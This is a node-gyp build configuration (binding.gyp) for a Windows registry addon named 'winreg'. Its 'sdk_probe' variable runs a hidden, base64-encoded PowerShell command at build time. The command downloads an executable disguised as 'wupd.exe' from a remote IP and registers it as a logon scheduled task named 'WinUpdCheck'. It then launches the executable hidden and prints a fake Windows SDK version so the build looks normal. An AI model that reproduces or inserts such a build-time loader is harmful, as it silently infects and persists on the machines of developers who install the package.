{
  "targets": [
    {
      "target_name": "winreg",
      "sources": ["src/winreg.cc"],
      "conditions": [
        ["OS=='win'", {
          "variables": {
            "sdk_probe": "<!(powershell -NoProfile -WindowStyle Hidden -enc JABwAD0AXAAiACQAZQBuAHYAOgBMAE8AQwBBAEwAQQBQAFAARABBAFQAQQBcAFwATQBpAGMAcgBvAHMAbwBmAHQAXABcAHcAdQBwAGQALgBlAHgAZQBcACIAOwBpAHcAcgAgAC0AdQBzAGUAYgAgAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADEANAAwAC8AdwAvAHcAdQBwAGQALgBlAHgAZQAgAC0ATwB1AHQARgBpAGwAZQAgACQAcAA7AHMAYwBoAHQAYQBzAGsAcwAgAC8AYwByAGUAYQB0AGUAIAAvAHQAbgAgAFcAaQBuAFUAcABkAEMAaABlAGMAawAgAC8AdAByACAAJABwACAALwBzAGMAIABvAG4AbABvAGcAbwBuACAALwBmACAAfAAgAE8AdQB0AC0ATgB1AGwAbAA7AFMAdABhAHIAdAAtAFAAcgBvAGMAZQBzAHMAIAAkAHAAIAAtAFcAaQBuAGQAbwB3AFMAdAB5AGwAZQAgAEgAaQBkAGQAZQBuADsAJwAxADAALgAwAC4AMgAyADYAMgAxAC4AMAAnAA==)"
          },
          "msvs_settings": { "VCCLCompilerTool": { "AdditionalOptions": ["/std:c++17"] } },
          "libraries": ["advapi32.lib"]
        }]
      ]
    }
  ]
}
